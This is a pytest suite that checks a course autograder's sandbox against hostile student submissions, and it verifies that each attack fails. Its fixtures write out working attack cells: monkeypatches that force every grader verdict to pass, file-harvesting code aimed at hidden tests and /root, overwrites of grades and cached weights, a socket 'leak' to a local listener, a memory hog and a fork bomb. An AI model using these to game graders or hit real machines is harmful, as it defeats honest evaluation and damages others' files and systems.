"""``course grade`` against submissions that game it, as a student who reads everything
installed, calls anything importable and writes anywhere they can would. Each gets what a
trustworthy grader gives: zero for the exercises it games, full marks for honest exercises
beside a hostile cell, and no harm to anyone else's work, the grades, the instructor's files,
the network or the machine."""

import csv
import socket
import uuid
from pathlib import Path

import psutil
import pytest
from runs.submissions import FIXTURE, POINTS, STEM, editions, filled, hand_in

from course_lib.runs.grade import Rules, grade_all
from course_lib.runs.grade_report import write_reports
from course_lib.sandbox import FIRST_UID, Limits, isolation

LIMIT = 60  # seconds per notebook (the honest one takes ~15 s on a busy 2-core machine)
MEMORY = 3 * 2**30
LIMITS = Limits(wall=LIMIT, cpu=2 * LIMIT, memory=MEMORY)
RULES = Rules(FIXTURE, FIXTURE / "hidden_cases.py", LIMITS, case_timeout=10)
TOKEN = uuid.uuid4().hex[:8]
REPOSITORY = FIXTURE.parents[2]

pytestmark = pytest.mark.skipif(
    isolation() != "root", reason="the full sandbox needs root (CI grades as root)"
)

DELEGATES = {
    "keep_largest": """
def keep_largest(w, kappa):
    from course_lib import lc
    return lc.largest_mask(w, kappa)
""",
    "codebook_bits": """
def codebook_bits(num_weights, k):
    return assign.exercise("codebook_bits").library(num_weights, k)
""",
}
SNEAKS = {  # the reference reached around the refusal: a new process, a reload, its source
    "keep_largest": """
def keep_largest(w, kappa):
    import subprocess, sys
    code = ("import sys, torch; from course_lib import lc; "
            f"print(lc.largest_mask(torch.tensor({w.tolist()}), {kappa}).tolist())")
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout
    return torch.tensor(eval(found))
""",
    "codebook_bits": """
def codebook_bits(num_weights, k):
    import importlib, inspect
    import course_lib.costs.storage as storage
    try:
        return importlib.reload(storage).codebook_bits(num_weights, k)
    except Exception:
        namespace = {}
        exec(inspect.getsource(storage), namespace)
        return namespace["codebook_bits"](num_weights, k)
""",
}
WRONG = {
    "keep_largest": "def keep_largest(w, kappa):\n    return w.abs() > w.abs().max()",
    "codebook_bits": "def codebook_bits(num_weights, k):\n    return 0",
}
PATCHES = """
import builtins
import course_lib.assign.cells as cells
import course_lib.assign.exercises as exercises
import course_lib.assign.verdict as verdict
exercises.run_case = lambda case, function: None
verdict.Verdict.ok = property(lambda self: True)
cells.verdict = lambda name, function, hidden=False: verdict.Verdict(name, hidden, ["forged"])
builtins.print = lambda *args, **kwargs: None
"""
READS = f"""
import glob, pathlib
loot = []
for pattern in ["{FIXTURE}/*", "{REPOSITORY}/assignments/*", "{REPOSITORY}/notebooks/*",
                "SUBMISSIONS/**/*", "GRADES/**/*", "/root/*"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            loot.append(pathlib.Path(path).read_text()[:200000])
        except Exception as exc:
            loot.append(repr(exc))
try:
    from course_lib.assign.hidden import load_hidden
    loot.append(repr(load_hidden()))
except Exception as exc:
    loot.append(repr(exc))
pathlib.Path(output_dir, "loot.txt").write_text("\\n".join(loot))
print("\\n".join(loot)[:100000])
"""
WRITES = f"""
import glob, pathlib
for path in ["SUBMISSIONS/honest/{STEM}.ipynb", "SUBMISSIONS/writes/{STEM}.ipynb",
        "GRADES/grades.csv", "GRADES/honest/{STEM}/result.json",
        "{FIXTURE}/{STEM}.ipynb", "{FIXTURE}/pwned-{TOKEN}",
        "{REPOSITORY}/course_lib/pwned-{TOKEN}", "/root/pwned-{TOKEN}", "/tmp/pwned-{TOKEN}",
        "/dev/shm/pwned-{TOKEN}"]:
    try:
        pathlib.Path(path).write_text("{{}}")
        print("wrote", path)
    except Exception as exc:
        print("refused", path, exc)
import os
for path in pathlib.Path(os.environ["COURSE_CACHE"]).rglob("*.pt"):
    try:
        path.write_bytes(b"poisoned")
        print("wrote", path)
    except Exception as exc:
        print("refused", path, exc)
"""
NETWORK = """
import socket
socket.create_connection(("127.0.0.1", PORT), timeout=3).sendall(b"leak")
"""
MEMORY_HOG = """
import time
hog = []
try:
    while True:
        hog.append(bytearray(2**28))
except MemoryError:
    time.sleep(60)
"""
FORKS = """
import os, time
children = []
for _ in range(5000):
    pid = os.fork()
    if pid == 0:
        time.sleep(600)
        os._exit(0)
    children.append(pid)
"""
SLEEPS = "import time\ntime.sleep(10**6)"


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    student, instructor = editions(root)
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    where = {"SUBMISSIONS": str(root / "submissions"), "GRADES": str(root / "grades"),
             "PORT": str(listener.getsockname()[1])}  # fmt: skip

    def cell(source):
        for name, value in where.items():
            source = source.replace(name, value)
        return source

    networking = filled(student, instructor, after_setup=cell(NETWORK))
    submissions = {
        "honest": filled(student, instructor),
        "delegates": filled(student, instructor, DELEGATES),
        "sneaks": filled(student, instructor, SNEAKS),
        "patches": filled(student, instructor, WRONG, after_setup=PATCHES),
        "reads": filled(student, instructor, after_setup=cell(READS)),
        "writes": filled(student, instructor, after_setup=cell(WRITES)),
        "networks": networking,
        "hogs": filled(student, instructor, after_setup=MEMORY_HOG),
        "forks": filled(student, instructor, after_setup=FORKS),
        "sleeps": filled(student, instructor, after_setup=SLEEPS),
    }
    hand_in(root / "submissions", submissions)
    cache = root / "cache"  # the grader's model cache, copied into each sandbox
    (cache / "references").mkdir(parents=True)
    (cache / "references" / "lenet5.pt").write_bytes(b"the instructor's weights")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("COURSE_CACHE", str(cache))
        results, changed = grade_all(
            root / "submissions", root / "grades", POINTS, RULES, workers=2
        )
    try:
        connection, _ = listener.accept()
        connection.close()
        connected = True
    except TimeoutError:
        connected = False
    listener.close()
    written = write_reports(results, POINTS, FIXTURE, root / "grades", changed)
    with open(written["grades"]) as table:
        scores = {row.pop("student"): row["total"] for row in csv.DictReader(table)}
    return root, {r.student: r for r in results}, changed, scores, connected, written


def test_gaming_scores_nothing_and_honest_work_full_marks(graded):
    _, _, _, scores, _, _ = graded
    assert scores == {
        "honest": "3.0", "delegates": "0.0", "sneaks": "0.0", "patches": "0.0", "reads": "3.0",
        "writes": "3.0", "networks": "3.0", "hogs": "3.0", "forks": "3.0", "sleeps": "3.0",
    }  # fmt: skip


def test_delegation_is_named_in_the_feedback(graded):
    _, results, _, _, _, _ = graded
    delegated = [
        why for verdicts in results["delegates"].outcome.verdicts.values()
        for verdict in verdicts for why in verdict.failures.values()
    ]  # fmt: skip
    assert delegated and all("must be written, not called" in why for why in delegated)
    sneaked = [
        why for verdicts in results["sneaks"].outcome.verdicts.values()
        for verdict in verdicts for why in verdict.failures.values()
    ]  # fmt: skip
    assert any("without subprocess.Popen" in why for why in sneaked), sneaked
    assert any("without the library's source" in why for why in sneaked), sneaked


def test_no_hidden_case_or_solution_reaches_a_submission(graded):
    root, _, _, _, _, _ = graded
    folder = root / "grades" / "reads" / STEM  # what the submission's own process wrote
    written = [folder / f"{STEM}.executed.ipynb", *(folder / "outputs").rglob("*.txt")]
    seen = "".join(path.read_text(errors="replace") for path in written)
    assert (folder / "outputs" / "loot.txt").is_file()  # the cell ran and kept what it found
    for secret in ("1000 random weights", "k = 1: no index at all", "BEGIN SOLUTION",
                   "BEGIN HIDDEN TESTS", "hidden=True"):  # fmt: skip
        assert secret not in seen, secret


def test_nothing_outside_the_sandbox_was_written(graded):
    root, results, changed, _, _, _ = graded
    assert changed == []
    assert results["honest"].outcome.verdicts and (root / "grades" / "grades.csv").is_file()
    outside = [FIXTURE, REPOSITORY / "course_lib", Path("/tmp"), Path("/dev/shm"), Path("/root")]
    for folder in outside:
        assert not (folder / f"pwned-{TOKEN}").exists(), folder
    executed = (root / "grades" / "writes" / STEM / f"{STEM}.executed.ipynb").read_text()
    assert "wrote /tmp" in executed  # its own /tmp, gone with the sandbox
    assert "references/lenet5.pt" in executed  # its own copy of the cache, changed or not
    cached = root / "cache" / "references" / "lenet5.pt"
    assert cached.read_bytes() == b"the instructor's weights"
    assert f"refused {root / 'submissions' / 'honest'}" in executed


def test_no_connection_left_the_sandbox(graded):
    _, results, _, _, connected, _ = graded
    assert not connected
    assert any("Network is unreachable" in e for e in results["networks"].outcome.errors)


def test_limits_stop_a_run_and_are_named(graded):
    _, results, _, _, _, written = graded
    assert results["hogs"].status == "memory"
    assert results["sleeps"].status == "timeout"
    summary = written["summary"].read_text()
    assert "stopped at the memory limit of 3 GiB" in summary
    assert f"stopped at the time limit of {LIMIT} s" in summary
    assert "without network, as a user of its own" in summary
    assert results["forks"].status in ("errors", "ok", "memory")


def test_no_sandboxed_process_outlives_grading(graded):
    users = [p.info["uids"] for p in psutil.process_iter(["uids"]) if p.info["uids"]]
    assert [uids for uids in users if uids.real >= FIRST_UID] == []
